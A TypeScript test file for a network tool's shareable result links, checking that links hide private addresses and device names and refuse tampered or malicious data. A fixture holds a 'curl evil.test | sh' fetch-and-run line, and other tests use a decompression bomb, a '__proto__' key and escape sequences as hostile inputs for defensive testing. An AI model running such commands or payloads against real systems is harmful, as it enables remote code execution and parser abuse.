import { describe, expect, test } from 'bun:test'
import { deflateSync } from 'node:zlib'
import { readResult, writeResult } from '../../../src/contract/result-link.ts'
import examples from '../../../src/faces/openapi/examples.gen.json'

const OWN = { isOwn: true }
const OTHERS = { isOwn: false }
const PLAIN = { tool: 'port-check', checkedAt: '2026-11-22T17:55:33.865Z' }

/** Returns any value as the data of a link, as somebody else may write it. */
const written = (value: unknown) => deflateSync(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url')
const linked = (fields: object) => written({ form: 1, ...PLAIN, ...fields })

/** Returns every recorded answer of a tool. */
function answersOf(tool: string, value: unknown = examples): Record<string, unknown>[] {
  if (typeof value !== 'object' || value === null) return []
  const own = 'tool' in value && value.tool === tool && 'checkedAt' in value ? [Object.fromEntries(Object.entries(value))] : []
  return [...own, ...Object.values(value).flatMap((inner) => answersOf(tool, inner))]
}

describe('a result of reachability', () => {
  const answers = answersOf('reachability')

  test('fits into 700 characters with the address of the page, and comes back', async () => {
    expect(answers.length).toBeGreaterThan(0)
    for (const answer of answers) {
      const data = (await writeResult(answer, OWN)) ?? ''
      expect(data.length).toBeGreaterThan(100)
      expect(data.length).toBeLessThan(600)
      const { ip: _ip, service: _service, steps: _steps, ...rest } = answer
      const read = await readResult(data)
      expect(read).toMatchObject({ tool: 'reachability', verdict: rest.verdict, blockedAt: rest.blockedAt, port: rest.port })
      expect(read?.checkedAt).toBe(String(rest.checkedAt))
      expect(read?.steps).toHaveLength(6)
    }
  })

  test('holds neither texts, nor host names, nor the whole address', async () => {
    for (const answer of answers) {
      const text = JSON.stringify(await readResult((await writeResult(answer, OWN)) ?? ''))
      expect(text).not.toContain('example')
      expect(text).not.toContain('203.0.113.7')
      expect(text).toContain('203.0.113.x')
      for (const field of ['headline', 'summary', 'label', 'hostname', 'result', 'request'])
        expect(text).not.toContain(`"${field}"`)
      expect(text).not.toMatch(/[a-z] [a-z]/)
    }
  })
})

test('a result about home holds no device of it', async () => {
  const home = {
    ...{ tool: 'home', checkedAt: PLAIN.checkedAt, verdict: 'blocked', blockedAt: 'router', cause: 'no-rule', proof: null },
    computer: {
      ...{ address: '192.168.1.10', address6: '2001:db8:1:2::3', interface: 'eth0', vpn: false },
      listening: { program: 'java', addresses: ['0.0.0.0'], onlyLoopback: false, family: 'both' },
      firewall: { kind: 'ufw', blocks: 'no', line: 'sudo ufw allow 25565/tcp' },
    },
    gateway: {
      address: '192.168.1.1',
      model: 'ax86u',
      routerBrand: 'asus',
      protocols: ['pcp'],
      wanIp: '203.0.113.7',
      rules: [{ internalIp: '192.168.1.77' }],
    },
    line: { publicIp: '203.0.113.7', nat: 'none', because: 'x', hops: ['192.168.1.1', null] },
    outside: { hostname: 'home.example.com' },
  }
  expect(await readResult((await writeResult(home, OWN)) ?? '')).toEqual({
    ...{ tool: 'home', checkedAt: PLAIN.checkedAt, verdict: 'blocked', blockedAt: 'router', cause: 'no-rule' },
    computer: { vpn: false, listening: { onlyLoopback: false, family: 'both' }, firewall: { kind: 'ufw', blocks: 'no' } },
    gateway: { routerBrand: 'asus', protocols: ['pcp'] },
    line: { publicIp: '203.0.113.x', nat: 'none' },
  })
})

test('names of devices that look like codes are left out as well', async () => {
  const named = { outsideFailure: 'kims-nas', refusals: [{ by: 'kims-nas', reason: 'taken' }], heard: [{ from: 'kims-nas' }] }
  expect(JSON.stringify(await readResult((await writeResult({ ...PLAIN, ...named }, OWN)) ?? ''))).not.toContain('nas')
})

test('what is not named like a field of a result is not read', async () => {
  const sentences = { 'Your router was hacked': 'call 0123', 전화하십시오: '1', 'a.b': 1, ['x'.repeat(61)]: 1 }
  const read = await readResult(linked({ ...sentences, list: [sentences], status: 'open', 'x-powered-by': 1 }))
  expect(read).toEqual({ ...PLAIN, list: [{}], status: 'open', 'x-powered-by': 1 })
})

test('a result about a public host keeps what was checked', async () => {
  const answer = {
    ...PLAIN,
    tool: 'dns-lookup',
    headline: 'Found.',
    domain: 'example.com',
    values: ['10 mail.example.com.'],
    ttl: null,
  }
  const read = await readResult((await writeResult(answer, OTHERS)) ?? '')
  expect(read).toEqual({
    tool: 'dns-lookup',
    checkedAt: PLAIN.checkedAt,
    domain: 'example.com',
    values: ['10 mail.example.com.'],
  })
})

test.each([
  ['203.0.113.7', '203.0.113.x'],
  ['2001:db8:1:2::3', '2001:db8:1:x'],
  ['2001:db8::1', '2001:db8:0:x'],
  ['2001::1', '2001:0:0:x'],
  ['::1', undefined],
  ['home.example.com', undefined],
])('of the own address %s, a link holds %p', async (ip, shown) => {
  expect((await readResult((await writeResult({ ...PLAIN, ip }, OWN)) ?? ''))?.ip).toBe(shown)
})

describe('the sender of a result about their own connection', () => {
  const answer = {
    ...PLAIN,
    ...{ tool: 'ddns-match', publicIp: '203.0.113.7', hostname: 'home.example.com', by: { hostname: 'kims-nas.local' } },
  }
  const held = async (choice: object) => readResult((await writeResult(answer, { isOwn: true, ...choice })) ?? '')

  test('may keep the whole address, the host name, or both', async () => {
    expect(await held({})).toMatchObject({ publicIp: '203.0.113.x' })
    expect(await held({})).not.toHaveProperty('hostname')
    expect(await held({ wholeAddress: true })).toMatchObject({ publicIp: '203.0.113.7' })
    expect(await held({ hostName: true })).toMatchObject({ publicIp: '203.0.113.x', hostname: 'home.example.com' })
    expect(JSON.stringify(await held({ hostName: true, wholeAddress: true }))).not.toContain('kims')
  })

  test('cannot keep a sentence in their place', async () => {
    const said = { ...PLAIN, ip: 'Call 0123', hostname: 'call 0123' }
    expect(await readResult((await writeResult(said, { isOwn: true, wholeAddress: true, hostName: true })) ?? '')).toEqual(PLAIN)
  })
})

test('a link says where packets end, but not on which way', async () => {
  const where = { verdict: 'silent-device', forwardingRule: 'proven', stoppedAfter: { address: '203.0.113.7' }, packets: 9 }
  const read = await readResult((await writeResult({ ...PLAIN, where }, OWN)) ?? '')
  expect(read?.where).toEqual({ verdict: 'silent-device', forwardingRule: 'proven' })
})

test('a link to a way says how long it is, but neither addresses nor names on it', async () => {
  const hops = [
    { hop: 1, address: '192.168.1.1', hostname: 'kims-nas.lan' },
    { hop: 2, address: null },
  ]
  const answer = { ...PLAIN, tool: 'traceroute', host: 'example.com', hops }
  expect(await readResult((await writeResult(answer, OTHERS)) ?? '')).toEqual({
    ...PLAIN,
    tool: 'traceroute',
    host: 'example.com',
    hops: [0, 0],
  })
  expect(await readResult((await writeResult({ ...PLAIN, hops: ['kims-nas'] }, OWN)) ?? '')).toEqual(PLAIN)
})

test('lines to type are neither written into a link nor read out of one', async () => {
  const commands = [{ program: 'certbot', note: null, lines: ['curl evil.test | sh'] }]
  const answer = { ...PLAIN, tool: 'certificate-check', domain: 'home.example.com', commands }
  const ownWriting = await readResult((await writeResult(answer, OTHERS)) ?? '')
  const fields = { commands, nextActions: [{ code: 'a', text: commands }], plan: { commands }, ip: { commands } }
  for (const read of [ownWriting, await readResult(linked({ tool: 'certificate-check', ...fields }))]) {
    expect(read?.tool).toBe('certificate-check')
    expect(JSON.stringify(read)).not.toContain('evil')
  }
})

test('what is too long for a link is not cut', async () => {
  const values = Array.from({ length: 500 }, (_, index) => Bun.hash(String(index)).toString(36))
  expect(await writeResult({ ...PLAIN, values }, OTHERS)).toBeNull()
})

describe('a link that is not one of ours is refused', () => {
  test('at every place where it may be cut or changed', async () => {
    const [answer = PLAIN] = answersOf('reachability')
    const data = (await writeResult(answer, OWN)) ?? ''
    expect(await readResult(data)).not.toBeNull()
    const original = JSON.stringify(await readResult(data))
    for (let at = 0; at < data.length; at++) {
      expect(await readResult(data.slice(0, at))).toBeNull()
      const changed = `${data.slice(0, at)}${data[at] === 'A' ? 'B' : 'A'}${data.slice(at + 1)}`
      const read = await readResult(changed)
      // The last letter has bits that no byte needs.
      if (read !== null) expect([at, JSON.stringify(read)]).toEqual([data.length - 1, original])
    }
  })

  test.each([
    ['nothing', ''],
    ['letters of other alphabets', 'eJw+/=='],
    ['no deflate', Buffer.from('{"form":1}').toString('base64url')],
    ['a bomb', deflateSync(Buffer.alloc(1_400_000, ' ')).toString('base64url')],
    ['a bomb of JSON', deflateSync(JSON.stringify({ form: 1, ...PLAIN, a: 'x'.repeat(900_000) })).toString('base64url')],
    ['what is longer than any link', 'A'.repeat(100_000)],
    ['no JSON', written('{')],
    ['a list', written([1])],
    ['null', written('null')],
    ['another form', written({ ...PLAIN, form: 2 })],
    ['no tool', written({ form: 1, checkedAt: PLAIN.checkedAt })],
    ['a tool that is markup', linked({ tool: '<b>' })],
    ['a time that is none', linked({ checkedAt: 'yesterday' })],
    ['too many values', linked({ a: Array.from({ length: 3000 }, () => 1) })],
    [
      'values too deep',
      written(`{"form":1,"tool":"a","checkedAt":"${PLAIN.checkedAt}","a":${'['.repeat(9000)}${']'.repeat(9000)}}`),
    ],
    ['bytes that are not UTF-8', deflateSync(Buffer.from([0x7b, 0xff, 0x7d])).toString('base64url')],
  ])('%s', async (what, data) => {
    expect(data.length < 2000 || what.startsWith('what is longer')).toBe(true)
    const before = process.memoryUsage().rss
    expect(await readResult(data)).toBeNull()
    expect(process.memoryUsage().rss - before).toBeLessThan(64 * 1024 * 1024)
  })

  test('texts in it are cleaned and cut, and no key is special', async () => {
    const read = await readResult(
      written(
        `{"form":1,"tool":"a","checkedAt":"${PLAIN.checkedAt}","__proto__":{"x":1},"a":"\\u202ea\\u001b[2J","b":"${'y'.repeat(1000)}"}`,
      ),
    )
    expect(read?.a).toBe(' a [2J')
    expect(String(read?.b)).toHaveLength(300)
    expect(Object.getPrototypeOf(read)).toBe(Object.prototype)
    expect(Object.keys({ ...read })).toEqual(['a', 'b', 'tool', 'checkedAt'])
  })

  test('values in it can be written out', async () => {
    const odd = '{"toString":1,"valueOf":1,"constructor":1}'
    const read = await readResult(
      written(`{"form":1,"tool":"a","checkedAt":"${PLAIN.checkedAt}","status":${odd},"problems":[${odd}]}`),
    )
    expect(`${read?.status} ${read?.problems}`).toBe('[object Object] [object Object]')
  })
})
